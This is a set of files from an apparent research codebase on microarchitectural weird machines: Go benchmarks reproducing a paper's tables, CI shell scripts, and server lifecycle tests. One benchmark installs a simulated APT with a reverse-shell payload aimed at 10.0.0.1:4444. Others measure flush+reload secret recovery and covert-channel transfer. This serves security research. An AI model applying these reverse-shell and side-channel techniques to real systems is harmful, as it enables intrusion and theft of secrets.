// Package uwm's root benchmarks regenerate every table and figure of
// the paper's evaluation section, one benchmark per experiment. Each
// benchmark drives the same code path as cmd/uwm-bench (package
// evalharness) at sizes scaled for `go test -bench`; run
//
//	go test -bench=. -benchmem
//
// for the suite, or `go run ./cmd/uwm-bench -all -full` for the
// paper-sized runs recorded in EXPERIMENTS.md.
package uwm_test

import (
	"testing"

	"uwm/internal/core"
	"uwm/internal/covert"
	"uwm/internal/evalharness"
	"uwm/internal/noise"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
	"uwm/internal/wmapt"
)

// benchParams keeps the harness runs small enough for benchmarking.
func benchParams() evalharness.Params {
	p := evalharness.Quick()
	p.Table2Ops = 800
	p.Table5Ops = 2000
	p.Table6Ops = 500
	p.Table8Ops = 2000
	p.Experiments = 5
	p.FigureOps = 1000
	return p
}

// BenchmarkTable2_GatePerformance regenerates the Table 2 overview:
// per-gate throughput and accuracy for both gate families.
func BenchmarkTable2_GatePerformance(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table2(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable3_WmAptTriggers regenerates the Table 3 trigger-count
// statistics (and Figure 6's underlying histogram data).
func BenchmarkTable3_WmAptTriggers(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, _, err := evalharness.Table3(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable4_SHA1Correctness regenerates the Table 4 SHA-1
// gate-correctness experiment (one block, reduced redundancy).
func BenchmarkTable4_SHA1Correctness(b *testing.B) {
	p := benchParams()
	p.SHA1S, p.SHA1K, p.SHA1N = 1, 1, 1
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table4(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable5_BPGateAccuracy regenerates the Table 5 BP/IC gate
// accuracy evaluation.
func BenchmarkTable5_BPGateAccuracy(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table5(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable6_TSXAndOrDelay regenerates the Table 6 delay
// distributions of the Figure 3 circuit.
func BenchmarkTable6_TSXAndOrDelay(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table6(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable7_TSXXorDelay regenerates the Table 7 delay
// distributions of the §4.1 XOR circuit.
func BenchmarkTable7_TSXXorDelay(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table7(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable8_TSXAccuracy regenerates the Table 8 TSX gate
// accuracy/abort table.
func BenchmarkTable8_TSXAccuracy(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table8(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFigure6_TriggerHistogram renders Figure 6 from fresh
// trigger-experiment data.
func BenchmarkFigure6_TriggerHistogram(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		_, counts, err := evalharness.Table3(p)
		if err != nil {
			b.Fatal(err)
		}
		if s := evalharness.Figure6(counts); len(s) == 0 {
			b.Fatal("empty figure")
		}
	}
}

// BenchmarkFigure7_AndGateKDE regenerates the Figure 7 timing KDE.
func BenchmarkFigure7_AndGateKDE(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.FigureKDE(p, "AND"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFigure8_OrGateKDE regenerates the Figure 8 timing KDE.
func BenchmarkFigure8_OrGateKDE(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.FigureKDE(p, "OR"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAblations runs the design-choice ablation sweep.
func BenchmarkAblations(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Ablations(p); err != nil {
			b.Fatal(err)
		}
	}
}

// --- Micro-benchmarks: single-operation costs, reported per gate op ---

// BenchmarkGateOp_BPAnd measures one full BP AND activation (train,
// flush, fire, timed read).
func BenchmarkGateOp_BPAnd(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1, TrainIterations: 4})
	g, err := core.NewBPAnd(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := g.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGateOp_TSXAnd measures one full TSX AND activation.
func BenchmarkGateOp_TSXAnd(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	g, err := core.NewTSXAnd(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := g.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGateOp_TSXXor measures the three-transaction weird XOR.
func BenchmarkGateOp_TSXXor(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	g, err := core.NewTSXXor(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := g.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAdd32 measures a weird 32-bit addition (32 full adders).
func BenchmarkAdd32(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1, TrainIterations: 3})
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := sk.Add32(rng.Uint32(), rng.Uint32()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkWeirdSHA1Block measures one SHA-1 block on weird gates.
func BenchmarkWeirdSHA1Block(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1, TrainIterations: 3})
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		b.Fatal(err)
	}
	h := sha1wm.New(sk)
	msg := []byte("abc")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := h.Sum(msg); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAptPing measures one silent-phase ping (10 weird 160-bit XOR
// transforms).
func BenchmarkAptPing(b *testing.B) {
	env := wmapt.NewEnv()
	apt, err := wmapt.New(env, wmapt.Options{Seed: 9, EvalMultiple: 1})
	if err != nil {
		b.Fatal(err)
	}
	pad, err := apt.Install(wmapt.ReverseShell{Addr: "10.0.0.1", Port: 4444})
	if err != nil {
		b.Fatal(err)
	}
	wrong := pad
	wrong[0] ^= 0xFF
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := apt.HandlePing(wrong); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCovertChannelDCWR measures covert-channel bit transfer over
// a data-cache weird register (§3.1's covert-channel framing).
func BenchmarkCovertChannelDCWR(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	wr, err := core.NewDCWR(m)
	if err != nil {
		b.Fatal(err)
	}
	ch := covert.NewChannel(wr, 1)
	payload := []byte{0xA5}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := ch.Transfer(payload); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFlushReloadByte measures one full flush+reload secret-byte
// recovery (2 victim runs + 32 timed probes).
func BenchmarkFlushReloadByte(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	fr, err := covert.NewFlushReload(m)
	if err != nil {
		b.Fatal(err)
	}
	fr.PlantSecret(0x5C)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := fr.RecoverSecret(1); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCompiledCircuitXor measures a compiled weird-circuit XOR
// (4 chained transactions per evaluation).
func BenchmarkCompiledCircuitXor(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	s := core.NewCircuitSpec(2)
	s.Output(s.Xor(0, 1))
	c, err := core.CompileCircuit(m, s)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := c.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}
