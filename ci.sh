#!/bin/sh
# CI entry point: formatting, static checks, build, race-enabled tests.
# Mirrors `make ci` for environments without make.
set -eu

echo "== gofmt =="
out="$(gofmt -l .)"
if [ -n "$out" ]; then
	echo "gofmt needed on:"
	echo "$out"
	exit 1
fi

echo "== go vet =="
go vet ./...

echo "== staticcheck =="
if command -v staticcheck >/dev/null 2>&1; then
	staticcheck ./...
else
	echo "staticcheck not installed; skipping (CI installs it)"
fi

echo "== go build =="
go build ./...

echo "== go test -race =="
go test -race ./...

echo "== uwm-serve smoke =="
tmpdir="$(mktemp -d)"
trap 'rm -rf "$tmpdir"' EXIT
go build -o "$tmpdir/uwm-serve" ./cmd/uwm-serve
go build -o "$tmpdir/uwm-top" ./cmd/uwm-top
go build -o "$tmpdir/uwm-trace" ./cmd/uwm-trace
"$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$tmpdir/addr" \
	-postmortem-dir "$tmpdir/postmortem" &
serve_pid=$!
i=0
while [ ! -s "$tmpdir/addr" ]; do
	i=$((i + 1))
	if [ "$i" -gt 100 ]; then
		echo "uwm-serve never wrote its address file"
		kill "$serve_pid" 2>/dev/null || true
		exit 1
	fi
	sleep 0.1
done
go run ./examples/serve -addr "$(cat "$tmpdir/addr")" -request-id smoke-trace-1
# The job's flight-recording resolves by the caller-chosen request id,
# straight from the live server into the offline analyzer.
"$tmpdir/uwm-trace" -from "http://$(cat "$tmpdir/addr")" -job smoke-trace-1 >/dev/null
"$tmpdir/uwm-trace" -health -from "http://$(cat "$tmpdir/addr")" -job smoke-trace-1 >/dev/null
"$tmpdir/uwm-top" -addr "http://$(cat "$tmpdir/addr")" -once >/dev/null
kill -TERM "$serve_pid"
wait "$serve_pid" # set -e: a non-zero exit here means the drain was not clean
if [ ! -s "$tmpdir/postmortem/index.json" ]; then
	echo "graceful drain left no post-mortem dump"
	exit 1
fi

echo "== gate-health smoke =="
# The deterministic drift scenario: a drifted-noise machine must be
# flagged by its worker's monitor and recover via exactly one
# recalibration, with live and offline verdicts agreeing.
go test -run 'TestWorkerDriftRecalibration' -count=1 ./internal/engine

echo "== bench report (quick sizes) =="
go run ./cmd/uwm-bench -all -repeat 5 -json BENCH_ci.json >/dev/null

echo "== gate-health bench report =="
go run ./cmd/uwm-bench -health -json BENCH_health.json >/dev/null

baseline="$(ls bench/BENCH_*.json 2>/dev/null | sort | tail -n 1)"
if [ -n "$baseline" ]; then
	echo "== perf comparison vs $baseline (report-only) =="
	go run ./cmd/uwm-bench -compare "$baseline" BENCH_ci.json ||
		echo "perf comparator reported significant regressions (soft gate: not failing CI)"
fi

echo "CI passed"
