#!/bin/sh
# CI entry point: formatting, static checks, build, race-enabled tests.
# Mirrors `make ci` for environments without make.
set -eu

echo "== gofmt =="
out="$(gofmt -l .)"
if [ -n "$out" ]; then
	echo "gofmt needed on:"
	echo "$out"
	exit 1
fi

echo "== go vet =="
go vet ./...

echo "== docs link check =="
# Every relative markdown link in the user-facing docs must resolve to
# a file or directory in the tree; external URLs and pure anchors are
# out of scope.
link_fail=0
for f in *.md docs/*.md; do
	[ -f "$f" ] || continue
	case "$f" in
	SNIPPETS.md | PAPERS.md | ISSUE.md) continue ;; # retrieval material, links point at their source repos
	esac
	dir="$(dirname "$f")"
	for link in $(grep -o ']([^)]*)' "$f" | sed 's/^](//;s/)$//'); do
		case "$link" in
		http://* | https://* | mailto:* | \#*) continue ;;
		esac
		target="${link%%#*}"
		[ -z "$target" ] && continue
		if [ ! -e "$dir/$target" ]; then
			echo "$f: broken relative link: $link"
			link_fail=1
		fi
	done
done
if [ "$link_fail" -ne 0 ]; then
	exit 1
fi

echo "== staticcheck =="
if command -v staticcheck >/dev/null 2>&1; then
	staticcheck ./...
else
	echo "staticcheck not installed; skipping (CI installs it)"
fi

echo "== go build =="
go build ./...

echo "== go test -race =="
go test -race ./...

echo "== concurrency race shard =="
# A second, dedicated race pass over the packages that share mutable
# state across goroutines (worker pool, recorder rings, alert state
# machines, log buckets); -count=2 reruns each test in one process so
# state carried between runs would also surface.
go test -race -count=2 \
	./internal/engine/... ./internal/flightrec ./internal/health \
	./internal/slo ./internal/evlog ./internal/cluster

echo "== uwm-serve smoke =="
tmpdir="$(mktemp -d)"
trap 'rm -rf "$tmpdir"' EXIT
go build -o "$tmpdir/uwm-serve" ./cmd/uwm-serve
go build -o "$tmpdir/uwm-top" ./cmd/uwm-top
go build -o "$tmpdir/uwm-trace" ./cmd/uwm-trace
"$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$tmpdir/addr" \
	-postmortem-dir "$tmpdir/postmortem" &
serve_pid=$!
i=0
while [ ! -s "$tmpdir/addr" ]; do
	i=$((i + 1))
	if [ "$i" -gt 100 ]; then
		echo "uwm-serve never wrote its address file"
		kill "$serve_pid" 2>/dev/null || true
		exit 1
	fi
	sleep 0.1
done
go run ./examples/serve -addr "$(cat "$tmpdir/addr")" -request-id smoke-trace-1
# The job's flight-recording resolves by the caller-chosen request id,
# straight from the live server into the offline analyzer.
"$tmpdir/uwm-trace" -from "http://$(cat "$tmpdir/addr")" -job smoke-trace-1 >/dev/null
"$tmpdir/uwm-trace" -health -from "http://$(cat "$tmpdir/addr")" -job smoke-trace-1 >/dev/null
"$tmpdir/uwm-top" -addr "http://$(cat "$tmpdir/addr")" -once >/dev/null
kill -TERM "$serve_pid"
wait "$serve_pid" # set -e: a non-zero exit here means the drain was not clean
if [ ! -s "$tmpdir/postmortem/index.json" ]; then
	echo "graceful drain left no post-mortem dump"
	exit 1
fi

echo "== slo burn smoke =="
# Boot with an unmeetable latency SLO, burn the budget with real jobs,
# and require the burn-rate alert to be firing before a clean drain.
cat > "$tmpdir/slo.json" <<'EOF'
[{"name":"job-latency","kind":"latency","objective":0.99,"latency_threshold":"1us","min_events":5}]
EOF
"$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$tmpdir/addr2" \
	-workers 1 -slo-config "$tmpdir/slo.json" -evlog "$tmpdir/events.jsonl" &
slo_pid=$!
i=0
while [ ! -s "$tmpdir/addr2" ]; do
	i=$((i + 1))
	if [ "$i" -gt 100 ]; then
		echo "uwm-serve (slo smoke) never wrote its address file"
		kill "$slo_pid" 2>/dev/null || true
		exit 1
	fi
	sleep 0.1
done
slo_base="http://$(cat "$tmpdir/addr2")"
for n in 1 2 3 4 5 6 7 8; do
	curl -fsS -X POST "$slo_base/v1/jobs?wait=1" \
		-d '{"type":"gate","params":{"gate":"TSX_XOR","random":4}}' >/dev/null
done
curl -fsS "$slo_base/v1/alerts" | grep -q '"state": "firing"' || {
	echo "alert not firing after the slo burn"
	kill "$slo_pid" 2>/dev/null || true
	exit 1
}
kill -TERM "$slo_pid"
wait "$slo_pid" # set -e: a non-zero exit here means the drain was not clean
grep -q '"event":"alert.fire"' "$tmpdir/events.jsonl" || {
	echo "event journal missing the alert.fire record"
	exit 1
}

echo "== cluster smoke =="
# Two uwm-serve backends behind one uwm-gateway: a duplicate seeded
# submission must replay byte-identically from the result cache, the
# example client and uwm-trace must work through the gateway unchanged,
# a backend SIGTERMed mid-burst must cost zero failed client requests
# (and drain cleanly itself), the dead backend must show up in
# /v1/cluster, and the gateway must drain cleanly on SIGTERM.
go build -o "$tmpdir/uwm-gateway" ./cmd/uwm-gateway
"$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$tmpdir/b1.addr" &
b1_pid=$!
"$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$tmpdir/b2.addr" &
b2_pid=$!
i=0
while [ ! -s "$tmpdir/b1.addr" ] || [ ! -s "$tmpdir/b2.addr" ]; do
	i=$((i + 1))
	if [ "$i" -gt 100 ]; then
		echo "cluster smoke: backends never wrote their address files"
		kill "$b1_pid" "$b2_pid" 2>/dev/null || true
		exit 1
	fi
	sleep 0.1
done
"$tmpdir/uwm-gateway" -addr 127.0.0.1:0 -addr-file "$tmpdir/gw.addr" \
	-backends "$(cat "$tmpdir/b1.addr"),$(cat "$tmpdir/b2.addr")" \
	-probe-interval 200ms &
gw_pid=$!
i=0
while [ ! -s "$tmpdir/gw.addr" ]; do
	i=$((i + 1))
	if [ "$i" -gt 100 ]; then
		echo "cluster smoke: gateway never wrote its address file"
		kill "$gw_pid" "$b1_pid" "$b2_pid" 2>/dev/null || true
		exit 1
	fi
	sleep 0.1
done
gw="http://$(cat "$tmpdir/gw.addr")"
# Duplicate seeded job: the repeat is served from the cache and is
# byte-identical to the first run.
seeded='{"type":"gate","seed":42,"params":{"gate":"TSX_XOR","random":4}}'
curl -fsS -X POST "$gw/v1/jobs?wait=1" -d "$seeded" -o "$tmpdir/run1.json"
curl -fsS -X POST "$gw/v1/jobs?wait=1" -d "$seeded" -o "$tmpdir/run2.json"
cmp "$tmpdir/run1.json" "$tmpdir/run2.json" || {
	echo "cached repeat is not byte-identical"
	exit 1
}
curl -fsS "$gw/metrics" | grep -q 'uwm_gateway_cache_hits_total 1' || {
	echo "cache hit not visible in gateway metrics"
	exit 1
}
# The example client and the trace analyzer work through the gateway
# exactly as against a single uwm-serve.
go run ./examples/serve -addr "$(cat "$tmpdir/gw.addr")" -request-id gw-smoke-1
"$tmpdir/uwm-trace" -from "$gw" -job gw-smoke-1 >/dev/null
# Failover burst: SIGTERM one backend mid-burst; every client request
# must still succeed, and the killed backend must drain cleanly.
(
	sleep 0.15
	kill -TERM "$b1_pid"
) &
killer_pid=$!
for n in 1 2 3 4 5 6 7 8 9 10 11 12; do
	curl -fsS -X POST "$gw/v1/jobs?wait=1" \
		-d "{\"type\":\"gate\",\"seed\":$((100 + n)),\"params\":{\"gate\":\"TSX_XOR\",\"random\":4}}" \
		>/dev/null || {
		echo "burst request $n failed during backend loss"
		exit 1
	}
	sleep 0.05
done
wait "$killer_pid"
wait "$b1_pid" # set -e: non-zero means the SIGTERMed backend did not drain cleanly
sleep 0.5      # > probe interval: the prober confirms the death
curl -fsS "$gw/v1/cluster" | grep -q '"state": "down"' || {
	echo "/v1/cluster does not reflect the dead backend"
	exit 1
}
"$tmpdir/uwm-top" -addr "$gw" -once >/dev/null
kill -TERM "$gw_pid"
wait "$gw_pid" # set -e: non-zero means the gateway did not drain cleanly
kill -TERM "$b2_pid"
wait "$b2_pid"

echo "== gate-health smoke =="
# The deterministic drift scenario: a drifted-noise machine must be
# flagged by its worker's monitor and recover via exactly one
# recalibration, with live and offline verdicts agreeing.
go test -run 'TestWorkerDriftRecalibration' -count=1 ./internal/engine

echo "== bench report (quick sizes) =="
go run ./cmd/uwm-bench -all -repeat 5 -json BENCH_ci.json >/dev/null

echo "== gate-health bench report =="
go run ./cmd/uwm-bench -health -json BENCH_health.json >/dev/null

echo "== circuit pipeline bench report =="
go run ./cmd/uwm-bench -circuit -json BENCH_circuit.json >/dev/null

baseline="$(ls bench/BENCH_*.json 2>/dev/null | sort | tail -n 1)"
if [ -n "$baseline" ]; then
	echo "== perf comparison vs $baseline (report-only) =="
	go run ./cmd/uwm-bench -compare "$baseline" BENCH_ci.json ||
		echo "perf comparator reported significant regressions (soft gate: not failing CI)"
fi

echo "CI passed"
