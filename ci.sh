#!/bin/sh
# CI entry point: formatting, static checks, build, race-enabled tests.
# Mirrors `make ci` for environments without make.
set -eu

echo "== gofmt =="
out="$(gofmt -l .)"
if [ -n "$out" ]; then
	echo "gofmt needed on:"
	echo "$out"
	exit 1
fi

echo "== go vet =="
go vet ./...

echo "== go build =="
go build ./...

echo "== go test -race =="
go test -race ./...

echo "CI passed"
