package main

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestServeLifecycle drives the binary's whole life in-process: boot
// on an ephemeral port, serve a synchronous job and a health check,
// then drain cleanly on SIGTERM with exit code 0.
func TestServeLifecycle(t *testing.T) {
	addrFile := filepath.Join(t.TempDir(), "addr")
	sigs := make(chan os.Signal, 1)
	exit := make(chan int, 1)
	go func() {
		exit <- realMain([]string{
			"-addr", "127.0.0.1:0",
			"-addr-file", addrFile,
			"-workers", "2",
			"-queue", "8",
			"-drain-timeout", "30s",
		}, sigs)
	}()

	var addr string
	deadline := time.Now().Add(60 * time.Second)
	for addr == "" {
		if time.Now().After(deadline) {
			t.Fatal("server never wrote its address file")
		}
		if b, err := os.ReadFile(addrFile); err == nil && len(b) > 0 {
			addr = string(b)
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	base := "http://" + addr

	resp, err := http.Get(base + "/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz status %d", resp.StatusCode)
	}

	resp, err = http.Post(base+"/v1/jobs?wait=1", "application/json",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("submit status %d, want 200", resp.StatusCode)
	}
	var snap struct {
		Status string          `json:"status"`
		Result json.RawMessage `json:"result"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&snap); err != nil {
		t.Fatalf("decoding submit response: %v", err)
	}
	resp.Body.Close()
	if snap.Status != "done" || len(snap.Result) == 0 {
		t.Fatalf("job did not complete: %+v", snap)
	}

	resp, err = http.Get(base + "/metrics")
	if err != nil {
		t.Fatalf("/metrics: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/metrics status %d", resp.StatusCode)
	}

	sigs <- syscall.SIGTERM
	select {
	case code := <-exit:
		if code != 0 {
			t.Fatalf("exit code %d after SIGTERM, want 0", code)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("server did not drain after SIGTERM")
	}

	if _, err := http.Get(base + "/healthz"); err == nil {
		t.Error("server still answering after drain")
	}
}

// TestServeBadFlags keeps the usage exit code stable.
func TestServeBadFlags(t *testing.T) {
	if code := realMain([]string{"-no-such-flag"}, make(chan os.Signal)); code != 2 {
		t.Errorf("exit code %d for bad flags, want 2", code)
	}
}
