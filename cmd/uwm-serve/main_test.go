package main

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestServeLifecycle drives the binary's whole life in-process: boot
// on an ephemeral port, serve a synchronous job and a health check,
// fetch the job's flight-recording by request id, then drain cleanly on
// SIGTERM with exit code 0 and a post-mortem dump on disk.
func TestServeLifecycle(t *testing.T) {
	tmp := t.TempDir()
	addrFile := filepath.Join(tmp, "addr")
	postmortemDir := filepath.Join(tmp, "postmortem")
	sigs := make(chan os.Signal, 1)
	exit := make(chan int, 1)
	go func() {
		exit <- realMain([]string{
			"-addr", "127.0.0.1:0",
			"-addr-file", addrFile,
			"-workers", "2",
			"-queue", "8",
			"-drain-timeout", "30s",
			"-postmortem-dir", postmortemDir,
		}, sigs)
	}()

	var addr string
	deadline := time.Now().Add(60 * time.Second)
	for addr == "" {
		if time.Now().After(deadline) {
			t.Fatal("server never wrote its address file")
		}
		if b, err := os.ReadFile(addrFile); err == nil && len(b) > 0 {
			addr = string(b)
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	base := "http://" + addr

	resp, err := http.Get(base + "/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz status %d", resp.StatusCode)
	}

	req, err := http.NewRequest(http.MethodPost, base+"/v1/jobs?wait=1",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Request-Id", "req-lifecycle-1")
	resp, err = http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("submit status %d, want 200", resp.StatusCode)
	}
	var snap struct {
		ID     string          `json:"id"`
		Status string          `json:"status"`
		Result json.RawMessage `json:"result"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&snap); err != nil {
		t.Fatalf("decoding submit response: %v", err)
	}
	resp.Body.Close()
	if snap.Status != "done" || len(snap.Result) == 0 {
		t.Fatalf("job did not complete: %+v", snap)
	}

	// The flight recorder runs by default; the job's trace resolves under
	// the caller-chosen request id.
	resp, err = http.Get(base + "/v1/jobs/req-lifecycle-1/trace")
	if err != nil {
		t.Fatalf("trace fetch: %v", err)
	}
	traceBody, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("trace fetch status %d err %v", resp.StatusCode, err)
	}
	if len(traceBody) == 0 {
		t.Fatal("empty flight-recording")
	}

	resp, err = http.Get(base + "/metrics")
	if err != nil {
		t.Fatalf("/metrics: %v", err)
	}
	expo, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("/metrics status %d err %v", resp.StatusCode, err)
	}
	for _, want := range []string{"uwm_build_info{", "uwm_flightrec_decisions_total{", "uwm_flightrec_capacity{"} {
		if !strings.Contains(string(expo), want) {
			t.Errorf("/metrics missing %s", want)
		}
	}

	sigs <- syscall.SIGTERM
	select {
	case code := <-exit:
		if code != 0 {
			t.Fatalf("exit code %d after SIGTERM, want 0", code)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("server did not drain after SIGTERM")
	}

	if _, err := http.Get(base + "/healthz"); err == nil {
		t.Error("server still answering after drain")
	}

	// The drain left a post-mortem dump: the kept trace's JSONL file and
	// an index naming the job.
	b, err := os.ReadFile(filepath.Join(postmortemDir, "index.json"))
	if err != nil {
		t.Fatalf("post-mortem index not written: %v", err)
	}
	var entries []struct {
		ID        string `json:"id"`
		RequestID string `json:"request_id"`
	}
	if err := json.Unmarshal(b, &entries); err != nil {
		t.Fatalf("post-mortem index: %v", err)
	}
	found := false
	for _, e := range entries {
		if e.ID == snap.ID && e.RequestID == "req-lifecycle-1" {
			found = true
			if _, err := os.Stat(filepath.Join(postmortemDir, e.ID+".jsonl")); err != nil {
				t.Errorf("post-mortem trace file missing: %v", err)
			}
		}
	}
	if !found {
		t.Fatalf("job %s missing from post-mortem index: %+v", snap.ID, entries)
	}
}

// TestServeSLOBurnLifecycle boots with a deliberately unmeetable
// latency SLO, burns the budget with a handful of jobs, and checks the
// whole alerting surface end to end: /v1/slo accounting, /v1/alerts
// firing, the JSONL event journal on disk, and a clean SIGTERM drain.
func TestServeSLOBurnLifecycle(t *testing.T) {
	tmp := t.TempDir()
	addrFile := filepath.Join(tmp, "addr")
	sloFile := filepath.Join(tmp, "slo.json")
	evlogFile := filepath.Join(tmp, "events.jsonl")
	sloJSON := `[{"name":"job-latency","kind":"latency","objective":0.99,
		"latency_threshold":"1us","min_events":5}]`
	if err := os.WriteFile(sloFile, []byte(sloJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	sigs := make(chan os.Signal, 1)
	exit := make(chan int, 1)
	go func() {
		exit <- realMain([]string{
			"-addr", "127.0.0.1:0",
			"-addr-file", addrFile,
			"-workers", "1",
			"-slo-config", sloFile,
			"-evlog", evlogFile,
		}, sigs)
	}()

	var addr string
	deadline := time.Now().Add(60 * time.Second)
	for addr == "" {
		if time.Now().After(deadline) {
			t.Fatal("server never wrote its address file")
		}
		if b, err := os.ReadFile(addrFile); err == nil && len(b) > 0 {
			addr = string(b)
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	base := "http://" + addr

	// Every real job misses a 1µs latency threshold: eight submissions
	// exhaust the budget and trip the fast burn policy.
	for i := 0; i < 8; i++ {
		resp, err := http.Post(base+"/v1/jobs?wait=1", "application/json",
			strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
		if err != nil {
			t.Fatalf("submit %d: %v", i, err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("submit %d: status %d", i, resp.StatusCode)
		}
	}

	resp, err := http.Get(base + "/v1/slo")
	if err != nil {
		t.Fatal(err)
	}
	var sb struct {
		SLOs []struct {
			Name           string  `json:"name"`
			BadEvents      float64 `json:"bad_events"`
			BudgetConsumed float64 `json:"budget_consumed"`
		} `json:"slos"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&sb); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if len(sb.SLOs) != 1 || sb.SLOs[0].Name != "job-latency" {
		t.Fatalf("slo body %+v, want the configured job-latency SLO", sb)
	}
	if sb.SLOs[0].BadEvents < 8 || sb.SLOs[0].BudgetConsumed <= 0 {
		t.Fatalf("budget not burning: %+v", sb.SLOs[0])
	}

	resp, err = http.Get(base + "/v1/alerts")
	if err != nil {
		t.Fatal(err)
	}
	var ab struct {
		Firing int `json:"firing"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&ab); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if ab.Firing == 0 {
		t.Fatal("no alert firing after the burn")
	}

	sigs <- syscall.SIGTERM
	select {
	case code := <-exit:
		if code != 0 {
